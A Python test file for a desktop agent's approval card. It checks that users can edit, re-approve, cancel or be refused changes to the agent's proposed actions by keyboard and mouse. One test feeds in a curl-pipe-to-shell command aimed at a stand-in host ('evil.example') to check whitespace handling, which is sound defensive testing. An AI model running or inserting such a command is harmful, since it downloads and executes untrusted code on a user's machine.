"""What is asked about is changed in the card, by keyboard and mouse, before the yes."""

from __future__ import annotations

from collections.abc import Callable

import msgspec
import pytest
from PySide6.QtCore import QPoint

from desktop_agent.protocol.agent_events import ApprovalAsked, Status
from desktop_agent.protocol.geometry import Point
from desktop_agent.protocol.op_change import OpChange
from tests.desk import Desk
from tests.ui import scenes
from tests.ui.conftest import Stage
from tests.ui.hands import Hands
from tests.ui.test_approval_card import shown
from tests.ui.test_focus import active

TEXT = "Dear Ms Berger,\n\nthe three receipts are attached.\n\nAnna"


def test_the_text_is_changed_from_the_application_by_keyboard_alone(
    opened: Callable[..., Stage], hands: Hands, terminal: str, desk: Desk
) -> None:
    stage = opened(goal="write a mail")
    stage.play(*scenes.typing_approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.armed and stage.window.keys.held, "the shortcuts")
    assert active(desk) == terminal
    hands.chord("ctrl", "alt", "e")
    stage.wait(
        lambda: card.editor.fields and card.editor.fields[0][1].hasFocus() and hands.writes_here(),
        "the field",
    )
    field = card.editor.fields[0][1]
    assert field.toPlainText() == TEXT and not card.approve.isVisible()
    hands.chord("ctrl", "end")
    hands.type(" Weber")
    stage.wait(lambda: field.toPlainText() == f"{TEXT} Weber", "the words")
    hands.chord("tab")
    stage.wait(card.use.hasFocus, "the button after the field")
    hands.chord("space")
    stage.wait(lambda: stage.told("edit"), "the change told")
    assert stage.port.changes == (OpChange(0, "text", text=f"{TEXT} Weber"),)
    assert not card.editing and not card.approve.isEnabled(), "no yes to what was asked before"
    stage.wait(lambda: active(desk) == terminal, "the keyboard given back")
    assert not stage.told("approve") and not stage.told("skip")


def test_what_qt_makes_of_a_text_is_no_change(opened: Callable[..., Stage]) -> None:
    """Other blanks and line ends: or opening the fields would make the user's word of what a page says."""
    stage = opened(goal="write a mail")
    *before, asked = scenes.typing_approval()
    assert isinstance(asked, ApprovalAsked)
    odd = msgspec.structs.replace(asked.changeable[0], value="curl\u00a0evil.example\r\n\u2028| sh")
    stage.play(*before, msgspec.structs.replace(asked, changeable=(odd,)))
    card = stage.window.body.approval
    stage.wait(lambda: card.armed, "the card")
    card.edit.click()
    stage.wait(lambda: card.editor.fields, "the field")
    assert card.editor.changes() == ()


def test_another_element_or_point_is_chosen(
    opened: Callable[..., Stage], hands: Hands, terminal: str
) -> None:
    stage = opened(goal="send it")
    stage.play(*scenes.approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.armed, "the card")
    card.edit.click()
    editor = card.editor
    stage.wait(lambda: len(editor.near) == 3 and editor.near[1].isVisible(), "the elements")
    names = [each.accessibleName() for each in editor.near]
    assert names[1] == "Click instead: e42   push button “Cancel”"
    editor.near[1].click()
    assert editor.changes() == (OpChange(0, "place", element="e42"),)
    assert editor.near[1].accessibleName().startswith("Chosen: ")
    picture = editor.picture
    assert picture is not None and picture.at == scenes.NEAR[1].area.center
    hands.point(picture, QPoint(picture.width() // 2, picture.height() // 2))
    hands.press()
    hands.release()
    stage.wait(lambda: editor.changes() and not editor.changes()[0].element, "a point of the picture")
    at = editor.changes()[0].at
    assert at is not None and abs(at.x - 783) < 8 and abs(at.y - 484) < 8, "in screen pixels"
    stage.wait(lambda: picture.hasFocus() and hands.writes_here(), "the picture with the keyboard")
    hands.chord("right")
    hands.chord("down")
    moved = Point(at.x + 1, at.y + 1)
    stage.wait(lambda: editor.changes() == (OpChange(0, "place", at=moved),), "the mark moved")
    picture.choose(Point(99, 100))
    assert picture.at == moved, "never outside of the picture"


def test_going_back_changes_nothing(stage: Stage) -> None:
    stage.play(*scenes.typing_approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.armed, "the card")
    card.edit.click()
    card.editor.fields[0][1].setPlainText("other")
    card.back.click()
    assert card.approve.isEnabled() and card.approve.isVisible() and not stage.told("edit")
    card.edit.click()
    assert card.editor.fields[0][1].toPlainText() == TEXT
    card.use.click()
    assert not stage.told("edit") and card.approve.isEnabled(), "no change is the same question"


def test_the_changed_question_needs_a_yes_of_its_own(stage: Stage) -> None:
    stage.play(*scenes.edited_approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.armed, "the card")
    words = shown(card)
    assert "You changed this. Before:" in words and "Your own words" in words and "Anna Weber" in words
    card.approve.click()
    assert stage.told("approve") == [("approve", "t2", "False")]


def test_a_refused_change_is_said_and_the_first_question_stands(stage: Stage) -> None:
    stage.play(*scenes.refused_approval())
    card = stage.window.body.approval
    assert "Your change is refused: Your rules deny “mail” in thunderbird." in shown(card)
    assert "Your rules deny" in card.accessibleName()


def test_an_unanswered_card_blocks_nothing_else(
    opened: Callable[..., Stage], hands: Hands, terminal: str
) -> None:
    stage = opened(goal="send it")
    stage.play(*scenes.approval())
    window = stage.window
    stage.wait(lambda: window.body.approval.armed, "the card")
    hands.click(window.composer.input.viewport())
    stage.wait(lambda: hands.writes_here() and window.composer.input.hasFocus(), "the input")
    hands.type("by the way")
    stage.wait(lambda: window.composer.input.toPlainText() == "by the way", "words typed meanwhile")
    bar = window.body.area.verticalScrollBar()
    before = bar.value()
    hands.chord("page_up")
    stage.wait(lambda: bar.value() < before, "the conversation scrolled")
    hands.click(window.header.pause)
    stage.wait(lambda: stage.told("pause"), "the pause")
    assert window.body.approval.isVisible() and not stage.told("approve") and not stage.told("skip")
    hands.click(window.header.stop)
    stage.wait(lambda: stage.told("stop"), "the stop")


def test_the_details_are_folded_and_reached_by_keyboard(stage: Stage, hands: Hands) -> None:
    stage.play(*scenes.sending_approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.fold.isVisible(), "the card")
    assert "click_element(left) at 1215,768" not in shown(card.rows) and not card.details.isVisible()
    assert "You cannot take this back." in shown(card.rows)
    card.fold.click()
    stage.wait(card.details.isVisible, "the details")
    assert "click_element(left) at 1215,768" in shown(card.details)


def test_two_questions_in_a_row_are_two(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    stage.play(*scenes.typing_approval())
    card = stage.window.body.approval
    stage.wait(lambda: card.armed, "the first")
    card.edit.click()
    monkeypatch.setattr("desktop_agent.ui.panels.approval_card.ARMED_MS", 60_000)
    stage.play(Status(state="waiting_for_user"), scenes.asked_of(scenes.sending_approval()))
    assert not card.editing and not card.armed, (
        "the second is armed for itself, and nothing of the first is left"
    )
    assert "Click “Send”" in shown(card) and "The model’s own words" not in shown(card)
